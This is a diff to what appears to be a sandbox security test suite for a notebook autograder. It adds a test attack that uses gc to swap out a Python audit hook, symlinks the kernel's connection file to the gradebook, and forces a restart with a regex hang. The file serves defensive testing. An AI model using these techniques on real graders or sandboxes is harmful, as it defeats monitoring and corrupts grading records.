@@ -52,6 +52,25 @@ STEAL = (
 
 
 GLOB_ID = "[v]ictim"
+IPC_LINK = "0-ipc-link-to-gradebook"
+
+# turns the kernel's audit hook off from Python: the OS sandbox, not the hook, has to hold
+NEUTER_HOOK = (
+    "import gc, types\n"
+    "def _noop_like(code):\n"
+    "    names = code.co_freevars\n"
+    "    body = ('def outer():\\n' + ''.join(f'    {n} = None\\n' for n in names)\n"
+    "            + '    def hook(event, args):\\n        return (' + ''.join(f'{n}, ' for n in names)\n"
+    "            + ')\\n    return hook\\n')\n"
+    "    ns = {}\n"
+    "    exec(body, ns)\n"
+    "    return ns['outer']().__code__\n"
+    "for obj in gc.get_objects():\n"
+    "    if isinstance(obj, types.FunctionType) and obj.__name__ == 'hook' \\\n"
+    "            and obj.__module__ == 'autograder.sandbox.guardrails':\n"
+    "        obj.__code__ = _noop_like(obj.__code__)\n"
+    "        print('audit hook switched off')\n"
+)
 
 
 def attacks(course: Path) -> dict[str, dict[str, str]]:
@@ -167,6 +186,22 @@ def attacks(course: Path) -> dict[str, dict[str, str]]:
         },
         # a learner id that nbgrader would read as a file pattern matching "victim"
         GLOB_ID: {},
+        # Python code switches the audit hook off (a no-op code object in place of its own), then
+        # puts a link to the gradebook in place of the kernel's connection file (its socket folder
+        # is writable from inside) and hangs, so the grader restarts the kernel and writes that file
+        # again. Named to be graded first: the first submission of a run starts its kernel fresh (no
+        # spare yet), the path that wrote the file through the link.
+        IPC_LINK: {
+            "reply-tom": NEUTER_HOOK + "import os, re\n"
+            "from ipykernel.connect import get_connection_file\n"
+            "folder = os.path.dirname(get_connection_file())\n"
+            "try:\n"
+            "    os.remove(os.path.join(folder, 'connection.json'))\n"
+            f"    os.symlink({str(db)!r}, os.path.join(folder, 'connection.json'))\n"
+            "except OSError as exc:\n"
+            "    print('blocked', exc)\n"
+            "re.match('(a*)*b', 'a' * 40)\n"
+        },
     }
 
 
